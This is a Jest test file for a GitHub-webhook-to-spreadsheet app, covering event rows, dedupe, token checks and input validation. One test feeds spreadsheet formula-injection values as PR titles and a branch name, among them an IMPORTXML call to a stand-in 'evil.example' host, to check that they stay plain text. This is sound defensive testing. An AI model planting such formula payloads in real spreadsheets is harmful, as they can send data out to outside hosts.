import { spreadsheetCalls, type TestApp } from '../helpers/app';
import { cloneApp, githubApp, setProperty, setSetting } from '../helpers/fakeGitHub';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const published = require('@octokit/webhooks-examples') as Array<{ name: string; examples: Array<Record<string, any>> }>;

const HANDLED = ['push', 'pull_request', 'pull_request_review', 'issues', 'deployment_status', 'workflow_run', 'ping'];
const examples = published.filter((g) => HANDLED.includes(g.name)).flatMap((g) => g.examples.map((payload, i) => ({ event: g.name, i, payload })));
const GITHUB_SHEETS = ['GitHub Events', 'Pull Requests', 'Reviews', 'Deployments', 'Commits', 'Incidents'];
const AT = new Date('2026-01-05T12:00:00+09:00');

type App = TestApp & { token: string };

function post(t: App, body: string, options: { query?: string; type?: string; at?: Date } = {}) {
  const { response, result } = t.app.post(
    options.query ?? `source=github&token=${t.token}`,
    body,
    options.type ?? 'application/json',
    options.at ?? AT,
  );
  expect(response.mimeType).toBe('application/json');
  return { answer: JSON.parse(response.body) as Record<string, unknown>, stats: result.stats };
}

/** Times compare as instants: the sheet shows them in its zone, payloads in UTC. */
function norm(rows: unknown[][]): unknown[][] {
  return rows.map((r) => r.map((v) => (typeof v === 'string' && /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/.test(v) ? Date.parse(v) : v)));
}
const t0 = (iso: string | null | undefined) => (iso ? Date.parse(iso) : '');
const firstLine = (text: string) => text.split(/\r?\n/)[0] ?? '';

/** What the `GitHub Events` row of a payload holds: the contract, written out from the payload. */
function expectedEvent(event: string, p: Record<string, any>): unknown[] {
  const repo = p['repository']?.full_name;
  switch (event) {
    case 'push': {
      const branch = String(p['ref']).replace(/^refs\/(heads|tags)\//, '');
      const action = p['deleted'] ? 'deleted' : p['created'] ? 'created' : p['forced'] ? 'forced' : '';
      return [
        event,
        action,
        repo,
        p['pusher'].name,
        p['after'],
        p['head_commit'] ? `${branch}: ${firstLine(p['head_commit'].message)}` : branch,
        p['compare'],
      ];
    }
    case 'pull_request':
      return [event, p['action'], repo, p['sender'].login, `#${p['number']}`, p['pull_request'].title, p['pull_request'].html_url];
    case 'pull_request_review':
      return [event, p['action'], repo, p['sender'].login, `#${p['pull_request'].number}`, p['pull_request'].title, p['review'].html_url];
    case 'issues':
      return [event, p['action'], repo, p['sender'].login, `#${p['issue'].number}`, p['issue'].title, p['issue'].html_url];
    case 'deployment_status':
      return [
        event,
        p['action'],
        repo,
        p['sender'].login,
        p['deployment'].sha,
        `${p['deployment'].environment}: ${p['deployment_status'].state}`,
        p['deployment_status'].log_url || p['deployment_status'].target_url || '',
      ];
    case 'workflow_run': {
      const run = p['workflow_run'];
      return [
        event,
        p['action'],
        repo,
        p['sender'].login,
        run.head_sha,
        `${run.name || p['workflow'].name}: ${run.conclusion ?? run.status}`,
        run.html_url,
      ];
    }
    case 'ping':
      return [event, '', repo ?? p['organization'].login, p['sender'].login, String(p['hook_id']), p['zen'], ''];
  }
  throw new Error(event);
}

function eventRow(t: App) {
  const [header = [], ...rows] = t.sheet('GitHub Events');
  const col = (name: string) => header.indexOf(name);
  return rows.map((r) => ({
    fields: ['Event', 'Action', 'Repository', 'Actor', 'Number or SHA', 'Title', 'URL'].map((h) => r[col(h)]),
    key: r[col('Dedupe Key')] as string,
    appliedAt: r[col('Applied At')],
    data: r[col('Data')],
  }));
}

/** The derived rows of one payload, written out from the payload (with Settings: incident label `bug`, deploy workflows `test`). */
function expectedDerived(event: string, p: Record<string, any>): Record<string, unknown[][]> {
  const repo = p['repository']?.full_name;
  const pr = p['pull_request'];
  const pullRow = (ready: string | null, full: boolean, reviews: { count: number; first: string | null; approved: string | null }) => [
    repo,
    pr.number,
    pr.title,
    pr.user.login,
    pr.merged_at ? 'merged' : pr.state,
    pr.draft === true,
    t0(pr.created_at),
    t0(ready),
    t0(reviews.first),
    t0(reviews.approved),
    t0(pr.merged_at),
    t0(pr.closed_at),
    full ? pr.additions : '',
    full ? pr.deletions : '',
    full ? pr.changed_files : '',
    reviews.count,
    t0(pr.updated_at),
    pr.html_url,
    pr.head?.ref ?? '',
    '',
    Array.isArray(pr.requested_reviewers)
      ? [
          ...pr.requested_reviewers.map((u: { login: string }) => u.login),
          ...(pr.requested_teams ?? []).map((team: { slug: string }) => `team:${team.slug}`),
        ].join('\n')
      : '',
  ];
  switch (event) {
    case 'pull_request': {
      const ready = p['action'] === 'ready_for_review' ? pr.updated_at : p['action'] === 'opened' && !pr.draft ? pr.created_at : null;
      return { 'Pull Requests': [pullRow(ready, true, { count: 0, first: null, approved: null })] };
    }
    case 'pull_request_review': {
      const review = p['review'];
      const own = review.user.login === pr.user.login;
      const state = String(review.state).toUpperCase();
      return {
        Reviews: [[repo, pr.number, String(review.id), review.user.login, state, t0(review.submitted_at)]],
        'Pull Requests': [
          pullRow(null, false, {
            count: 1,
            first: own ? null : review.submitted_at,
            approved: !own && state === 'APPROVED' ? review.submitted_at : null,
          }),
        ],
      };
    }
    case 'deployment_status': {
      const d = p['deployment'];
      const s = p['deployment_status'];
      const finished = ['success', 'failure', 'error'].includes(s.state) ? s.created_at : null;
      return {
        Deployments: [
          [
            repo,
            String(d.id),
            d.environment,
            d.sha,
            s.state,
            t0(d.created_at),
            t0(finished),
            t0(s.created_at),
            'deployment',
            '',
            s.log_url || s.target_url || '',
          ],
        ],
      };
    }
    case 'workflow_run': {
      const run = p['workflow_run'];
      const name = run.name || p['workflow'].name;
      if (name !== 'test') return {};
      const state =
        run.status !== 'completed'
          ? run.status
          : run.conclusion === 'success'
            ? 'success'
            : ['failure', 'timed_out', 'startup_failure'].includes(run.conclusion)
              ? 'failure'
              : run.conclusion;
      const finished = ['success', 'failure', 'error'].includes(state) ? run.updated_at : null;
      return {
        Deployments: [
          [
            repo,
            `run-${run.id}`,
            '',
            run.head_sha,
            state,
            t0(run.run_started_at ?? run.created_at),
            t0(finished),
            t0(run.updated_at),
            'workflow',
            name,
            run.html_url,
          ],
        ],
      };
    }
    case 'issues': {
      const issue = p['issue'];
      const incident =
        (issue.labels ?? []).some((l: { name: string }) => l.name === 'bug') &&
        !issue.pull_request &&
        !['deleted', 'transferred'].includes(p['action']);
      return incident
        ? { Incidents: [[repo, issue.number, issue.title, t0(issue.created_at), t0(issue.closed_at), issue.html_url, '', t0(issue.updated_at)]] }
        : {};
    }
    case 'push': {
      const onDefault = p['ref'] === `refs/heads/${p['repository'].default_branch}` && !p['deleted'];
      if (!onDefault) return {};
      return {
        Commits: p['commits'].map((c: any) => [
          repo,
          c.id,
          c.author.username ?? c.author.name,
          firstLine(c.message),
          t0(c.timestamp),
          '',
          '',
          c.url,
          p['after'],
        ]),
      };
    }
  }
  return {};
}

let template: App;

beforeAll(async () => {
  template = await githubApp(AT);
  setSetting(template, 'GITHUB_INCIDENT_LABEL', 'bug', AT);
  setSetting(template, 'GITHUB_DEPLOY_WORKFLOWS', 'test', AT);
});

describe('GitHub webhook through build/Code.js: every published example payload', () => {
  test.each(examples.map((e) => [`${e.event} #${e.i} (${e.payload['action'] ?? '-'})`, e]))('%s: its rows match the payload', async (_, example) => {
    const t = await cloneApp(template);
    const { answer, stats } = post(t, JSON.stringify(example.payload));
    expect(answer).toEqual({ ok: true, event: example.event, action: expect.any(String), recorded: true });
    expect(spreadsheetCalls(stats)).toBeLessThanOrEqual(3);

    const [row, ...more] = eventRow(t);
    expect(more).toEqual([]);
    expect(row?.fields).toEqual(expectedEvent(example.event, example.payload));

    const processed = t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 60_000) });
    expect(processed.error).toBeUndefined();
    const expected = expectedDerived(example.event, example.payload);
    for (const sheet of ['Pull Requests', 'Reviews', 'Deployments', 'Commits', 'Incidents']) {
      // Every row a GitHub fact writes says its forge, in the last column (Forge).
      const rows = (expected[sheet] ?? []).map((r) => [...r, 'github']);
      expect({ sheet, rows: norm(t.sheet(sheet).slice(1)) }).toEqual({ sheet, rows: norm(rows) });
    }
    // Once applied, the facts leave the Events row (it only keeps the log).
    expect(eventRow(t)[0]).toMatchObject({ data: '', appliedAt: expect.any(String) });
  });

  test('all of them in one sheet: one row per fact, and posting everything again adds nothing', async () => {
    const t = await cloneApp(template);
    const keys = new Set<string>();
    for (const e of examples) {
      const { answer } = post(t, JSON.stringify(e.payload));
      expect(answer['ok']).toBe(true);
    }
    t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 60_000) });
    for (const row of eventRow(t)) keys.add(row.key);
    expect(keys.size).toBe(eventRow(t).length);
    // The 82 published examples repeat deliveries (the same PR opened, with and without an organization, an
    // installation…): by the documented dedupe keys they hold 39 distinct facts.
    expect(examples.length).toBe(82);
    expect(eventRow(t).length).toBe(39);

    const before = Object.fromEntries(GITHUB_SHEETS.map((s) => [s, t.sheet(s)]));
    for (const e of examples) {
      const { answer } = post(t, JSON.stringify(e.payload), { at: new Date(AT.getTime() + 3_600_000) });
      expect(answer).toMatchObject({ ok: true, recorded: false, duplicate: true });
    }
    t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 3_660_000) });
    expect(Object.fromEntries(GITHUB_SHEETS.map((s) => [s, t.sheet(s)]))).toEqual(before);
  });
});

describe('GitHub webhook: the door', () => {
  const pr = examples.find((e) => e.event === 'pull_request')?.payload as Record<string, any>;

  test('form-encoded payload= and &event= work like JSON', async () => {
    const t = await cloneApp(template);
    const body = `payload=${encodeURIComponent(JSON.stringify(pr))}`;
    expect(post(t, body, { type: 'application/x-www-form-urlencoded', query: `source=github&token=${t.token}&event=pull_request` }).answer).toEqual({
      ok: true,
      event: 'pull_request',
      action: 'opened',
      recorded: true,
    });
    expect(post(t, JSON.stringify(pr)).answer).toMatchObject({ duplicate: true });
  });

  test('any other event answers ignored and writes nothing', async () => {
    const t = await cloneApp(template);
    const before = Object.fromEntries(GITHUB_SHEETS.map((s) => [s, t.sheet(s)]));
    for (const group of published.filter((g) => !HANDLED.includes(g.name))) {
      const { answer, stats } = post(t, JSON.stringify(group.examples[0]), { query: `source=github&token=${t.token}&event=${group.name}` });
      expect(answer).toEqual({ ok: true, ignored: group.name });
      expect(spreadsheetCalls(stats)).toBe(0);
    }
    expect(post(t, JSON.stringify({ zen: 'no hook id', sender: { login: 'octocat' } })).answer).toEqual({ ok: true, ignored: 'unknown' });
    const notAnEvent = post(t, JSON.stringify({ zen: 'no hook id' })).answer;
    expect(notAnEvent).toMatchObject({ ok: false });
    expect(String(notAnEvent['error'])).toContain('the body is no GitHub event');
    expect(Object.fromEntries(GITHUB_SHEETS.map((s) => [s, t.sheet(s)]))).toEqual(before);
  });

  test('a wrong or missing token writes nothing', async () => {
    const t = await cloneApp(template);
    for (const query of [
      'source=github',
      'source=github&token=nope',
      `source=github&token=${t.token}0`,
      `source=github&token=${t.prop('WEBHOOK_TOKEN_PROGRESS')}`,
    ]) {
      expect(post(t, JSON.stringify(pr), { query }).answer).toEqual({ ok: false, error: 'missing or wrong token' });
    }
    expect(t.sheet('GitHub Events').length).toBe(1);
  });

  test('malformed, truncated or oversized bodies: a clear error, nothing written', async () => {
    const t = await cloneApp(template);
    const cases: Array<[string, string, string]> = [
      ['', 'application/json', 'the request body is empty'],
      [JSON.stringify(pr).slice(0, 1000), 'application/json', 'ends before its JSON does'],
      ['{"action": opened}', 'application/json', 'is not valid JSON'],
      ['a=b', 'application/x-www-form-urlencoded', 'in its "payload" field'],
      [
        JSON.stringify({ ...pr, pull_request: { ...pr['pull_request'], title: 42, number: 'two' } }),
        'application/json',
        '"pull_request.number" of the pull_request payload must be a number',
      ],
      [`${JSON.stringify(pr)}${' '.repeat(25 * 1024 * 1024)}`, 'application/json', 'more than GitHub ever sends'],
    ];
    for (const [body, type, error] of cases) {
      const { answer } = post(t, body, { type });
      expect(answer['ok']).toBe(false);
      expect(String(answer['error'])).toContain(error);
    }
    expect(t.sheet('GitHub Events').length).toBe(1);
    expect(t.sheet('Errors').length).toBe(1);
  });

  test('titles and branch names stay text in the sheet: no formula, whatever they start with', async () => {
    const t = await cloneApp(template);
    const titles = ['=IMPORTXML("https://evil.example/","//a")', '+1+1', '-2', '@SUM(1)', '=1+1'];
    titles.forEach((title, n) => {
      post(t, JSON.stringify({ ...pr, number: 100 + n, pull_request: { ...pr['pull_request'], number: 100 + n, node_id: `N${n}`, title } }));
    });
    const push = examples.find((e) => e.event === 'push' && e.payload['commits'].length > 0)?.payload as Record<string, any>;
    post(t, JSON.stringify({ ...push, ref: 'refs/heads/=HYPERLINK("http://x","y")', after: 'f'.repeat(40) }));
    t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 60_000) });
    const eventTitles = eventRow(t).map((r) => r.fields[5]);
    expect(eventTitles).toEqual([...titles, `=HYPERLINK("http://x","y"): Initial commit`]);
    const pullTitles = t
      .sheet('Pull Requests')
      .slice(1)
      .map((r) => r[2]);
    expect(pullTitles).toEqual(titles);
  });

  test("a push of 2,048 commits (GitHub's most) fits a cell: its first commits now, the rest from the sync", async () => {
    const t = await cloneApp(template);
    const push = examples.find((e) => e.event === 'push' && e.payload['commits'].length > 0)?.payload as Record<string, any>;
    const sha = (n: number) => n.toString(16).padStart(40, '0');
    const commits = Array.from({ length: 2048 }, (_, n) => ({
      ...push['commits'][0],
      id: sha(n + 1),
      message: `Change ${n + 1}\n\n${'details '.repeat(40)}`,
      url: `https://github.com/Codertocat/Hello-World/commit/${sha(n + 1)}`,
    }));
    const { answer, stats } = post(t, JSON.stringify({ ...push, after: sha(2048), commits }));
    expect(answer).toMatchObject({ ok: true, recorded: true });
    expect(spreadsheetCalls(stats)).toBeLessThanOrEqual(3);
    expect(String(eventRow(t)[0]?.data).length).toBeLessThan(50_000);
    t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 60_000) });
    const stored = t.sheet('Commits').slice(1);
    expect(stored.length).toBeGreaterThan(100);
    expect(stored.map((r) => r[1])).toEqual(commits.slice(0, stored.length).map((c) => c.id));
  });

  test('notifications reach the chat Outbox, once, with the title unable to form markup', async () => {
    const t = await cloneApp(template);
    setProperty(t, 'SLACK_BOT_TOKEN', 'xoxb-test-not-real');
    setProperty(t, 'DISCORD_WEBHOOK_URL', 'https://discord.com/api/webhooks/1/test-not-real');
    const recent = {
      ...pr,
      pull_request: { ...pr['pull_request'], title: '<!channel> ship it', created_at: '2026-01-05T02:00:00Z', updated_at: '2026-01-05T02:00:00Z' },
    };
    post(t, JSON.stringify(recent));
    expect(t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 60_000) }).error).toBeUndefined();
    post(t, JSON.stringify(recent));
    t.app.run('processGitHubEvents', { at: new Date(AT.getTime() + 120_000) });
    const [header = [], ...rows] = t.sheet('Outbox');
    const col = (name: string) => header.indexOf(name);
    expect(rows.map((r) => [r[col('Key')], r[col('Destination')], r[col('Target')]])).toEqual([
      ['github:pr-ready:Codertocat/Hello-World#2', 'slack', '#code-reviews'],
      ['github:pr-ready:Codertocat/Hello-World#2', 'discord', 'webhook'],
    ]);
    expect(String(rows[0]?.[col('Summary')])).toContain('&lt;!channel&gt; ship it');
  });

  test('the token never reaches a sheet or a log', async () => {
    const t = await cloneApp(template);
    const ping = {
      ...(examples.find((e) => e.event === 'ping')?.payload as object),
      hook: { type: 'Repository', id: 7, config: { url: `https://script.google.com/macros/s/X/exec?source=github&token=${t.token}` } },
    };
    expect(post(t, JSON.stringify(ping)).answer).toMatchObject({ ok: true, event: 'ping' });
    post(t, '{bad', { query: `source=github&token=${t.token}` });
    const everything = JSON.stringify([...GITHUB_SHEETS, 'Errors'].map((s) => t.sheet(s)).concat([t.logs as never]));
    expect(everything).not.toContain(t.token);
  });
});
